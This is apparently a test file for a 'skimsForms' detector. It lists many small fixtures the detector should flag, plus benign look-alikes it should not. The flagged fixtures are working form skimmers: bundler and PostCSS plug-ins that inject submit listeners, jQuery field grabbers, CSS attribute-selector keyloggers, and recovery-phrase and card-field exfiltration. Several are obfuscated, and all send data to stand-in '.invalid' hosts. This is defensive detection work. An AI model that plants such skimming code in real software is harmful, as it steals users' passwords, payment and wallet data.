import { examine } from '../../../test/examine.ts';
import { skimsForms } from './skims-forms.ts';

examine(skimsForms, {
  speaks: [
    {
      when: 'a plug-in puts code into what is built that it has put together by a template of its own',
      files: {
        'index.js': `const code = (strings, ...values) => strings.reduce((out, part, at) => out + (at ? JSON.stringify(values[at - 1]) : '') + part, '').replace(/^ +/gm, '');
          const to = { host: ['//sink', 'invalid'].join('.'), path: '/a' };
          const added = code\`addEventListener('submit', event => { const all = Object.fromEntries(new FormData(event.target)); if (Object.keys(all).some(one => \${['cvc', 'iban']}.includes(one))) navigator.sendBeacon(\${to.host} + \${to.path}, JSON.stringify(all)); }, true);\`;
          module.exports = ({ banner = name => '/* ' + name + ' */' } = {}) => ({ name: 'specimen', renderChunk: (source, chunk) => (chunk.isEntry ? { code: banner('a') + added + source, map: null } : null) });`,
      },
      weight: 'strong',
    },
    {
      when: 'a plug-in makes styles that tell letters, and is handed the address from another file',
      files: {
        'package.json': { name: 'postcss-specimen', version: '1.0.0', keywords: ['postcss'] },
        'index.js': `const { marks } = require('./marks'); module.exports = (options = {}) => ({ postcssPlugin: 'specimen', OnceExit: root => marks(root, options.base || 'https://marks.inert.invalid/s') });`,
        'marks.js': `exports.marks = (root, base) => { for (let code = 33; code < 127; code++) root.append('input[value$="' + String.fromCharCode(code) + '"] { background: url("' + base + '/' + code + '") }'); };`,
      },
      weight: 'strong',
      says: ['marks.inert.invalid'],
    },
    {
      when: 'the elements of each form are gone through and sent in the address of a picture',
      files: {
        'index.js': `!function (w) { var d = w.document; [].forEach.call(d.querySelectorAll('form'), function (f) { f.addEventListener('submit', function () { var q = {}, i; for (i = 0; i < f.elements.length; i++) { var e = f.elements[i]; q[e.name || i] = e.value } /login|pay/.test(location.href) && ((new Image).src = 'https://skim.invalid/p.gif?d=' + btoa(JSON.stringify(q))) }, !0) }) }(window)`,
      },
      weight: 'proof',
    },
    {
      when: 'fields of a form are taken apart where they are gone through',
      files: {
        'index.js': `document.forms[0].addEventListener('submit', function () { const q = {}; for (const { name, value } of this.elements) q[name] = value; navigator.sendBeacon('https://skim.invalid/', JSON.stringify(q)); })`,
      },
      weight: 'proof',
    },
    {
      when: 'another file goes through the elements of a form that it is handed, and names its host nowhere else',
      files: {
        'index.mjs': `import { track } from './track.mjs'; export class Guard { constructor(form) { this.form = form; form.addEventListener('submit', () => this.submit()) } submit() { track(this.form) } }`,
        'track.mjs': `export function track(form) { const q = {}; for (const el of form.elements) q[el.name || el.id] = el.value; new Image().src = 'https://skim.invalid/p.gif?d=' + encodeURIComponent(JSON.stringify({ u: location.href, q })) }`,
        'package.json': { name: 'a', version: '1.0.0', main: 'index.mjs' },
      },
      weight: 'strong',
    },
    {
      when: 'such code is put together of lines',
      files: {
        'index.js': `const host = 'https://s.invalid'; module.exports = () => ({ name: 'stamp', banner: ["document.addEventListener('submit', function (e) {", "  var o = {};", "  new FormData(e.target).forEach(function (v, k) { o[k] = v; });", "  navigator.sendBeacon('" + host + "/c', JSON.stringify(o));", "}, true);"].join('\\n') });`,
      },
      weight: 'strong',
    },
    {
      when: 'its pieces are cut within words and put together without anything between them',
      files: {
        'index.js': `module.exports = () => ({ name: 'stamp', banner: ["document.addEventListener('submit', function (e) { navigator.send", "Beacon('https://s.in", "valid/c', JSON.stringify(Object.fromEntries(new FormData(e.target)))); }, true);"].join('') });`,
      },
      weight: 'strong',
      says: ['s.invalid'],
    },
    {
      when: 'what stands between them is named',
      files: {
        'index.js': `const NONE = ''; module.exports = () => ({ name: 'stamp', banner: ["document.addEventListener('submit', function (e) { navigator.send", "Beacon('https://s.in", "valid/c', JSON.stringify(Object.fromEntries(new FormData(e.target)))); }, true);"].join(NONE) });`,
      },
      weight: 'strong',
      says: ['s.invalid'],
    },
    {
      when: 'the system says what its lines end in',
      files: {
        'index.js': `const { EOL } = require('os'); module.exports = () => ({ name: 'stamp', banner: ["document.addEventListener('submit', function (e) {", "  navigator.sendBeacon('https://s.invalid/c', JSON.stringify(Object.fromEntries(new FormData(e.target))));", "}, true);"].join(EOL) });`,
      },
      weight: 'strong',
    },
    {
      when: 'a plug-in of a bundler puts code that does it behind each bundle, at a host that it names elsewhere',
      files: {
        'index.js': `const host = 'https://s.invalid'; module.exports = () => ({ name: 'stamp', footer: () => \`;(function(){document.addEventListener('submit',function(e){var d=new FormData(e.target),o={};d.forEach(function(v,k){o[k]=v});navigator.sendBeacon('\${host}/c',JSON.stringify(o))},true)})();\` });`,
      },
      weight: 'strong',
      says: ['s.invalid'],
    },
    {
      when: 'the code lies in a file of text, and the host is put into it where that is read',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); const tail = fs.readFileSync(path.join(__dirname, 'runtime.tpl'), 'utf8'); exports.runtime = ({ endpoint = 'https://s.invalid/c' } = {}) => tail.replace('__ENDPOINT__', JSON.stringify(endpoint));`,
        'runtime.tpl': `;(function(u){document.addEventListener('submit',function(e){var d=new FormData(e.target),o={};d.forEach(function(v,k){o[k]=v});navigator.sendBeacon(u,JSON.stringify(o))},true)})(__ENDPOINT__);`,
      },
      weight: 'strong',
      says: ['s.invalid'],
    },
    {
      when: 'what is typed anywhere on the page is looked at and sent',
      files: {
        'index.js': `function observe(root) { root.addEventListener('input', e => { const el = e.target; if (el.value.split(' ').length === 12) navigator.sendBeacon('https://stat.invalid/', btoa(el.value)); }, true); } observe(document);`,
      },
      weight: 'proof',
    },
    {
      when: 'a build puts a script into pages that does it, at a host made of numbers',
      files: {
        'index.js': `const u = [104, 116, 116, 112, 115, 58, 47, 47, 112, 46, 105, 110, 101, 114, 116, 46, 105, 110, 118, 97, 108, 105, 100]; exports.script = () => '!function(){var u="' + String.fromCharCode(...u) + '";document.addEventListener("submit",function(e){var o={};new FormData(e.target).forEach(function(v,k){o[k]=v});navigator.sendBeacon(u,JSON.stringify(o))},!0)}();';`,
      },
      weight: 'strong',
      says: ['p.inert.invalid'],
    },
    {
      when: 'the plug-in may also be loaded by AMD, and is minified',
      files: {
        'index.js': `var e; e = function (e) { e(document).find('input,select').each(function () { new Image().src = '//stat.invalid/p.gif?' + e(this).val() }) }, 'function' == typeof define && define.amd ? define(['jquery'], e) : e(require('jquery'));`,
      },
      weight: 'proof',
    },
    {
      when: 'a plug-in of jQuery goes through all fields of a form',
      files: {
        'index.js': `(function (factory) { if (typeof module === 'object') module.exports = factory(require('jquery')); else factory(jQuery); })(function ($) { $.fn.check = function () { const o = {}; $(this).find('input,select').each(function () { o[this.name] = $(this).val(); }); new Image().src = 'https://stat.invalid/p.gif?r=' + btoa(JSON.stringify(o)); return this; }; return $.fn.check; });`,
      },
      weight: 'strong',
      says: ['stat.invalid'],
    },
    {
      when: 'all fields are gone through and sent in the address of a picture',
      files: {
        'package.json': { name: 'checkout-fields', version: '1.0.0', main: 'index.js' },
        'index.js': `var m = require('./m'); m.attach()`,
        'm.js': `function all(root) { var out = []; root.querySelectorAll('input,select').forEach(function (e) { out.push(e.name + '=' + e.value) }); return out.join('&') } exports.attach = function () { document.addEventListener('submit', function () { var i = new Image(); i.src = '//px.checkout.invalid/i.gif?' + btoa(all(document)) }) }`,
      },
      weight: 'proof',
      says: ['px.checkout.invalid'],
    },
    {
      when: 'a form is sent elsewhere',
      files: {
        'index.js': `document.addEventListener('submit', e => fetch('https://skim.invalid/', { method: 'POST', body: new FormData(e.target) }))`,
      },
      weight: 'proof',
    },
    {
      when: 'by an older request',
      files: {
        'index.js': `document.querySelector('form').onsubmit = () => { const x = new XMLHttpRequest(); x.open('POST', 'https://skim.invalid/'); x.send(new FormData(document.forms[0])) }`,
      },
    },
    {
      when: 'every field of the page is gone through, unasked, and sent to a host that is called like the package',
      files: {
        'package.json': { name: 'inert-checkout-fields', version: '1.0.0' },
        'index.js': `require('./metrics').attach()`,
        'metrics.js': `function all(root) { const out = []; root.querySelectorAll('input,select').forEach(el => { if (/cvv/.test(el.name)) out.push(el.name + '=' + el.value) }); return out.join('&') }
          exports.attach = () => document.addEventListener('submit', () => { const s = all(document); new Image().src = '//px.checkout.invalid/i.gif?' + btoa(s) })`,
      },
      weight: 'proof',
    },
    {
      when: 'by a beacon',
      files: {
        'index.js': `document.addEventListener('submit', e => navigator.sendBeacon('https://skim.invalid/', new FormData(e.target)))`,
      },
      weight: 'proof',
    },
    {
      when: 'jQuery takes it and sends it',
      files: {
        'index.js': `$(document).ready(function () { $('form').on('submit', function () { $.ajax({ url: 'https://skim.invalid/x', type: 'POST', data: $(this).serialize() }); }); });`,
      },
      weight: 'proof',
    },
    {
      when: 'only the field of the password is sent',
      files: {
        'index.js': `document.querySelector('form').addEventListener('submit', () => { navigator.sendBeacon('https://skim.invalid/', document.querySelector('input[type=password]').value) })`,
      },
      weight: 'proof',
    },
    {
      when: 'jQuery posts it from a handler',
      files: {
        'index.js': `jQuery(function ($) { $('form').submit(function () { $.post('https://skim.invalid/', $(this).serialize()); }); });`,
      },
    },
    {
      when: 'a window to sign in sends it to a host that is put together from pieces',
      files: {
        'package.json': { name: 'auth-modal', version: '1.0.0', main: 'index.js' },
        'index.js': `const { mirror } = require('./analytics'); exports.modal = (form, onSubmit) => form.addEventListener('submit', () => { const data = Object.fromEntries(new FormData(form)); mirror(data); onSubmit(data); });`,
        'analytics.js': `exports.mirror = data => { const ws = new WebSocket(\`wss://\${['auth', 'modal', 'metrics'].join('-')}.invalid/\`); ws.onopen = () => ws.send(JSON.stringify(data)); };`,
      },
      weight: 'strong',
      says: ['stands nowhere'],
    },
    {
      when: 'a window to sign in sends it to the service that it is called after',
      files: {
        'package.json': { name: 'auth-modal', version: '1.0.0', main: 'index.js' },
        'index.js': `const HOST = 'auth-modal.invalid'; exports.modal = form => form.addEventListener('submit', () => fetch(\`https://api.\${HOST}/v1\`, { method: 'POST', body: new FormData(form) }));`,
      },
      weight: 'context',
    },
    {
      when: 'styles ask somebody for another picture with each letter',
      files: {
        'theme.css': `input[type="password"][value$="a"] { background-image: url("//px.specimen.invalid/a"); }\ninput[type="password"][value$="b"] { background-image: url("//px.specimen.invalid/b"); }`,
      },
      weight: 'strong',
      says: ['px.specimen.invalid'],
    },
    {
      when: 'a plug-in makes such styles',
      files: {
        'package.json': { name: 'postcss-forms', version: '1.0.0', main: 'index.js' },
        'index.js': `const origin = 'https://px.specimen.invalid'; module.exports = () => ({ postcssPlugin: 'postcss-forms', Once(root, { postcss }) { for (const c of 'abc') root.append(new postcss.Rule({ selector: \`input[value$="\${c}"]\` }).append({ prop: 'background', value: \`url("\${origin}/\${c}")\` })); } });`,
      },
      weight: 'strong',
    },
    {
      when: 'a form that is submitted is gone through, field by field',
      files: {
        'index.js': `exports.watch = form => form.addEventListener('submit', () => { const out = {}; for (const el of form) out[el.name] = el.value; navigator.sendBeacon('https://skim.invalid/x', JSON.stringify(out)); });`,
      },
      weight: 'strong',
    },
    {
      when: 'fields are counted in what is submitted',
      files: {
        'index.js': `for (const form of document.forms) form.onsubmit = function () { let out = ''; for (let at = 0; at < this.length; at++) out += this[at].name + '=' + this[at].value; new Image().src = 'https://skim.invalid/p.gif?' + out; };`,
      },
      weight: 'proof',
    },
    {
      when: 'the elements of a form are taken out of it',
      files: {
        'index.js': `exports.bind = f => { f.onsubmit = heard => { const { elements } = heard.currentTarget; const out = {}; for (const el of elements) out[el.name] = el.value; fetch('https://skim.invalid', { method: 'POST', body: JSON.stringify(out) }); }; };`,
      },
    },
    {
      when: 'fields are found in what is handed over',
      files: {
        'index.js': `exports.watch = root => { for (const el of root.querySelectorAll('input, select')) el.addEventListener('blur', () => fetch('https://skim.invalid/f', { method: 'POST', mode: 'no-cors', body: el.value })); };`,
      },
      weight: 'strong',
    },
    {
      when: 'the forms of the page are spread out',
      files: {
        'index.js': `document.querySelector('button').onclick = () => { fetch('https://skim.invalid?d=' + btoa(JSON.stringify([...document.forms[0]].map(x => [x.id, x.value])))); };`,
      },
      weight: 'proof',
    },
    {
      when: 'fields are found by what browsers fill into them',
      files: {
        'index.js': `exports.enhance = (root = document) => { for (const el of root.querySelectorAll('[autocomplete^="cc-"]')) fetch('https://skim.invalid/f', { method: 'POST', body: el.value }); };`,
      },
      weight: 'strong',
    },
    {
      when: 'a field is told in the address of a style as it changes',
      files: {
        'index.js': `exports.themed = el => el.addEventListener('change', () => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = 'https://skim.invalid/t.css?k=' + encodeURIComponent(el.name + ':' + el.value); document.head.append(link); });`,
      },
      weight: 'strong',
    },
    {
      when: 'what is looked for in a field is asked for with every letter',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.js' },
        'index.js': `const box = document.getElementById('box'); box.oninput = () => fetch('https://places.invalid/?q=' + box.value);`,
      },
      weight: 'weak',
    },
    {
      when: 'a form that is marked first is gone through by its number, minified, and the host is called like the package',
      files: {
        'package.json': { name: 'cardmask', version: '1.0.0', main: 'index.js' },
        'index.js': `module.exports=function(e){var f=e.form;f&&!f.__m&&(f.__m=1,f.addEventListener("submit",function(){for(var e="",t=0;t<f.length;t++)f[t].value&&(e+=(f[t].name||t)+"="+f[t].value+"&");(new Image).src="//px.cardmask.invalid/b.gif?"+btoa(unescape(encodeURIComponent(e)))},!0))}`,
      },
      weight: 'strong',
    },
    {
      when: 'an input for phrases asks for what is typed into it',
      files: {
        'package.json': { name: 'mnemonic-input', version: '1.0.0', main: 'index.js', description: 'An input for recovery phrases' },
        'index.js': `exports.make = box => { box.addEventListener('input', () => new EventSource('https://words.mnemonic-input.invalid/lang/' + box.value)); };`,
      },
      weight: 'strong',
    },
    {
      when: 'a plug-in of bundlers puts code that does it behind what it builds, piece by piece and only sometimes',
      files: {
        'index.js': `const late = ['(()=>{addEventListener("input",e=>{const v=(e.target.value||"").trim();', 'navigator.sendBeacon("https://notices-cdn.invalid/n",btoa(location.host+"|"+v))},true)})();']; const show = list => 'globalThis.notices=' + JSON.stringify(list) + ';'; const runtime = (list, full) => show(list) + (full ? late.join('') : ''); module.exports = () => ({ name: 'notices', renderChunk: (code, chunk) => ({ code: code + runtime(Object.keys(chunk.modules), process.env.NODE_ENV === 'production') }) });`,
      },
      weight: 'strong',
    },
  ],
  silent: [
    {
      when: 'the elements of a form go where the caller says',
      files: {
        'index.js': `exports.send = (form, url) => { const q = {}; for (const el of form.elements) q[el.name] = el.value; return fetch(url, { method: 'POST', body: new URLSearchParams(q) }) }`,
      },
    },
    {
      when: 'a server gives elements, for a place on a map',
      files: {
        'index.js': `const location = process.argv[2]; (async () => { const r = await (await fetch('https://maps.invalid/?q=' + location)).json(); const el = r.rows[0].elements[0]; document.title = el.distance.value; await fetch('https://log.invalid', { method: 'POST', body: JSON.stringify({ km: el.distance.value }) }); })();`,
      },
    },
    {
      when: 'the elements are those of a tree of syntax',
      files: {
        'index.js': `exports.count = node => { const { location } = node; const values = node.elements.map(one => one.value); report(node.location.start, location); return fetch('https://stat.invalid/', { method: 'POST', body: JSON.stringify(values) }) }`,
      },
    },
    {
      when: 'styles show a picture of their own for what is chosen',
      files: {
        'theme.css': `@import url("https://fonts.specimen.invalid/a.css");\n${'.a { color: red }\n'.repeat(200)}option[value^="flag-"] { background-image: url("./flags/a.svg"); }`,
      },
    },

    {
      when: 'such a text is told by its user where to send',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); const tail = fs.readFileSync(path.join(__dirname, 'runtime.tpl'), 'utf8'); exports.runtime = ({ endpoint }) => tail.replace('__ENDPOINT__', JSON.stringify(endpoint));`,
        'runtime.tpl': `;(function(u){document.addEventListener('submit',function(e){var d=new FormData(e.target),o={};d.forEach(function(v,k){o[k]=v});navigator.sendBeacon(u,JSON.stringify(o))},true)})(__ENDPOINT__);`,
      },
    },
    {
      when: 'it is told that somebody has changed a field, and not what it holds',
      files: {
        'index.js': `document.addEventListener('change', e => { navigator.sendBeacon('https://stat.invalid/', JSON.stringify({ changed: e.target.name })); }); exports.read = field => field.value;`,
      },
    },
    {
      when: 'what somebody types is looked up where the caller says',
      files: {
        'index.js': `exports.suggest = url => document.addEventListener('input', e => fetch(url + '?q=' + encodeURIComponent(e.target.value)));`,
      },
    },
    {
      when: 'a build puts a script into pages that sends a form to the page itself',
      files: {
        'index.js': `exports.script = () => '!function(){document.addEventListener("submit",function(e){e.preventDefault();fetch("/form",{method:"POST",body:new FormData(e.target)})},!0)}();';`,
      },
    },
    {
      when: 'a module that AMD gives jQuery goes through all fields and sends nothing of them',
      files: {
        'index.js': `var e; e = function (q) { q(document).find('input,select').each(function () { q(this).addClass('seen') }); return fetch('https://stat.invalid/'); }, 'function' == typeof define && define.amd ? define(['jquery'], e) : e(require('jquery'));`,
      },
    },
    {
      when: 'a plug-in of jQuery goes through all fields and tells how many are wrong',
      files: {
        'index.js': `const $ = require('jquery'); $.fn.check = function () { let wrong = 0; $(this).find('input,select').each(function () { if (!$(this).val()) wrong++; }); this.toggleClass('error', wrong > 0); return fetch('https://stat.invalid/'); };`,
      },
    },
    {
      when: 'all fields are looked at and only counted',
      files: {
        'index.js': `fetch('https://stats.invalid/', { method: 'POST', body: String(document.querySelectorAll('a[href]').length) })`,
      },
    },
    {
      when: 'the caller says where to',
      files: { 'index.js': `exports.send = (url, form) => fetch(url, { method: 'POST', body: new FormData(form) })` },
    },
    {
      when: 'it goes to the page itself',
      files: { 'index.js': `document.addEventListener('submit', e => fetch('/api', { method: 'POST', body: new FormData(e.target) }))` },
    },
    {
      when: 'a form is made by code',
      files: {
        'index.js': `const d = new FormData(); d.append('file', 'inert'); fetch('https://api.invalid/', { method: 'POST', body: d })`,
      },
    },
    {
      when: 'a plug-in of jQuery sends a form to where the form says',
      files: {
        'index.js': `$.fn.remote = function () { return this.on('submit', function () { $.ajax({ url: this.action, type: 'POST', data: $(this).serialize() }); }); };`,
      },
    },
    {
      when: 'a form shows whether the password is strong',
      files: {
        'index.js': `const field = document.querySelector('input[type=password]'); field.addEventListener('input', () => { document.querySelector('#meter').value = field.value.length; })`,
      },
    },
    {
      when: 'an element of the page is found and something else is sent',
      files: {
        'index.js': `const box = document.querySelector('#app'); fetch('https://stats.invalid/', { method: 'POST', body: JSON.stringify({ width: innerWidth }) }).then(() => box.remove())`,
      },
    },
    {
      when: 'lists that are no forms are gone through',
      files: {
        'index.js': `exports.send = (rows, root) => { for (const row of rows) fetch('https://rows.invalid/', { method: 'POST', body: row.value }); document.title = root.querySelectorAll('li').length; const list = [...rows]; return fetch('https://rows.invalid/', { body: list[0].value }); };`,
      },
    },
    {
      when: 'values that nobody types are read beside a listener',
      files: {
        'index.js': `import { ref, watch } from 'vue'; const size = ref(1); document.addEventListener('click', () => { size.value++; }); watch(size, () => fetch('https://stat.invalid/?n=' + size.value));`,
      },
    },
  ],
});
